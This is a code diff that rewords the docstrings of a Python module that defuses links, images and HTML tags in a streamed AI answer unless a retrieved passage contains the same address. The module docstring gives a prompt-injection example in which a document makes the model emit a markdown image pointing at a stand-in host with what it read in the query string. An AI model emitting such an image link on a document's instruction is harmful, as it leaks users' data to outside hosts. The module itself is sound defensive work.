@@ -1,9 +1,9 @@
-"""Links, pictures and HTML in an answer that is being written: what no passage holds becomes text that does nothing.
+"""Links, pictures and HTML in an answer that is being written: those that no passage contains are made harmless.
 
 A document can ask the language model to write `![](https://elsewhere/?q=what+it+read)`, and a chat client that draws
-the answer would fetch it. So an address stays one only where a passage that was read holds it, letter for letter:
-`https://` becomes `hxxps://`, `](` and `]:` get a space, `<img` becomes `< img`. Text can still be read, and code still
-says what it said. What may become any of them is held back until it is told, so that pieces make no difference.
+the answer would fetch it. So an address stays as it is only where a passage contains it, letter for letter. Else
+`https://` becomes `hxxps://`, `](` and `]:` get a space, and `<img` becomes `< img`, which people can still read. Text
+that may become any of these is held back until that is known, so the size of the pieces makes no difference.
 """
 
 from __future__ import annotations
@@ -22,7 +22,7 @@ _PARTIAL = re.compile(
     r"|(?<![A-Za-z0-9.])w{1,3}|:/?)\Z",
     re.IGNORECASE,
 )
-"""What may be the beginning of a scheme or of `www.` or `://`, at the end of what has come."""
+"""A possible beginning of a scheme, of `www.` or of `://` at the end of a text."""
 _RUN = re.compile(r"""[^\s<>"'`|\\^{}\[\]（）「」『』《》【】，。；：！？、“”‘’…]*""")
 _ASCII = re.compile(r"[!-~]*")
 _TRAILING = ".,;:!?)*_~"
@@ -32,35 +32,35 @@ _PLAIN_TAG = re.compile(
     r"|blockquote) ?/?>",
     re.IGNORECASE,
 )
-"""Tags that only lay text out; with an attribute they are none of these."""
+"""Tags without attributes that only lay out text."""
 _MARKS_AFTER = 64
-"""Characters of punctuation that may stand behind an address."""
+"""Characters of punctuation that may follow an address."""
 _LONGEST_TAG = 14
 _HELD_TAG = re.compile(
     r"</?(?!(?:script|style|iframe|frame|frameset|object|embed|applet|link|meta|base|form|input|button|svg|math|template"
     r"|noscript|noembed|plaintext|xmp|img|image|video|audio|source|track|a)\b)[A-Za-z][A-Za-z0-9_.:-]{0,60} ?/?>",
     re.IGNORECASE,
 )
-"""A tag without attributes that no browser fetches or runs anything for, as documents about XML are full of."""
+"""Tags without attributes that load and run nothing in a browser, as in documents about XML."""
 _LONGEST_ALT = 300
 _CITATION = re.compile(r"!\[\d+\]")
 _CITED = re.compile(r"\[\d+\Z")
 
 _MISLEADING = dict.fromkeys([*range(0x202A, 0x202F), *range(0x2066, 0x206A), *range(0xE0000, 0xE0080)])
-"""Marks that turn the direction of writing round, and letters that nobody can see."""
+"""Marks that change the direction of writing, and invisible letters."""
 
 
 def readable(text: str) -> str:
-    """Give text without the characters by which it would read otherwise than it is.
+    """Return text without invisible characters that change how it reads.
 
-    Control characters stay: JSON escapes them, and who prints an answer writes them out
+    Control characters stay: JSON escapes them, and the command line prints them as escapes
     (bothways/core/text/printable.py).
     """
     return text.translate(_MISLEADING)
 
 
 def held_addresses(passages: Iterable[Passage]) -> frozenset[str]:
-    """Give the addresses that passages hold, in their text, title, source or metadata, and their harmless tags."""
+    """Return the addresses in the text, title, source or metadata of passages, and the harmless tags in their text."""
     held: set[str] = set()
     for passage in passages:
         held.update(_HELD_TAG.findall(passage.text))
@@ -71,7 +71,7 @@ def held_addresses(passages: Iterable[Passage]) -> frozenset[str]:
 
 
 class Links:
-    """Checks the addresses of one answer against those of `held`."""
+    """Checks the addresses of one answer against those that the passages contain (`held`)."""
 
     def __init__(self, held: frozenset[str]) -> None:
         self._known = held
@@ -80,11 +80,11 @@ class Links:
         self._last = ""
 
     def feed(self, text: str) -> str:
-        """Take in a piece of the answer and give what of it may be shown now."""
+        """Take a piece of the answer and return what can be shown now."""
         return self._shown(text, final=False)
 
     def close(self) -> str:
-        """Give what is left at the answer's end."""
+        """Return the rest at the answer's end."""
         return self._shown("", final=True)
 
     def _shown(self, text: str, *, final: bool) -> str:
@@ -109,7 +109,7 @@ class Links:
         return "".join(shown)
 
     def _step(self, text: str, begin: int, what: str, *, final: bool) -> tuple[str, int] | None:
-        """Give what is shown of what begins here, and where to go on; None where that cannot be told yet."""
+        """Return what is shown from here, and where the text goes on; None where more text is needed to tell."""
         if what == "://":
             return ": //", begin + 3  # of a scheme that is not known, since others begin before
         following = text[begin + len(what) : begin + len(what) + 1]
@@ -133,7 +133,7 @@ class Links:
         return None if end is None else (text[begin:end], end) if end else ("] ", begin + 1)
 
     def _target_end(self, text: str, begin: int, closing: str, *, final: bool) -> int | None:
-        """Give where `(address)` or `<address>` of a held address ends; 0 where it is none, None where it may be."""
+        """Return where `(address)` or `<address>` with a held address ends; 0: there is none, None: unknown so far."""
         inside = self._run(text, begin + 1)
         end = begin + 1 + len(inside)
         if closing == ")" and ")" in inside:
@@ -163,7 +163,7 @@ class Links:
         return None if end is None or (waits and not final) else ("< ", begin + 1)
 
     def _picture(self, text: str, begin: int, *, final: bool) -> tuple[str, int] | None:
-        """Drop the mark of a picture that no passage holds; what becomes of the rest is told by its brackets."""
+        """Drop the `!` of a picture that no passage contains; its brackets are checked like those of a link."""
         close = text.find("]", begin, begin + _LONGEST_ALT)
         if close < 0 and len(text) - begin < _LONGEST_ALT and not final:
             return None
@@ -189,7 +189,7 @@ class Links:
         return _defused(what, text[begin + len(what) :][:2]), begin + len(what)
 
     def _run(self, text: str, begin: int) -> str:
-        """Give what could be an address, as far as one that is held could go."""
+        """Return the characters that could be an address, up to the length of the longest held one."""
         found = _RUN.match(text, begin, begin + self._most)
         return found.group() if found else ""
 
@@ -203,7 +203,7 @@ class Links:
         )
 
     def _may_be_held(self, run: str) -> bool:
-        """Tell whether more of an address could make it one that is held."""
+        """Return whether an address could become a held one with more characters."""
         stripped = _ascii(run).rstrip(_TRAILING)
         if self._is_held(stripped) or self._is_held(run.rstrip(_TRAILING)):
             return True
@@ -217,7 +217,7 @@ def _ascii(run: str) -> str:
 
 
 def _defused(what: str, following: str) -> str:
-    """Give the beginning of an address so that nothing takes it for one."""
+    """Return the beginning of an address, changed so that no program takes it for one."""
     if what.casefold() == "www.":
         return what if following[:1].isspace() else f"{what[:-1]}(.)"
     if what.casefold() in {"http:", "https:"} and following == "//":
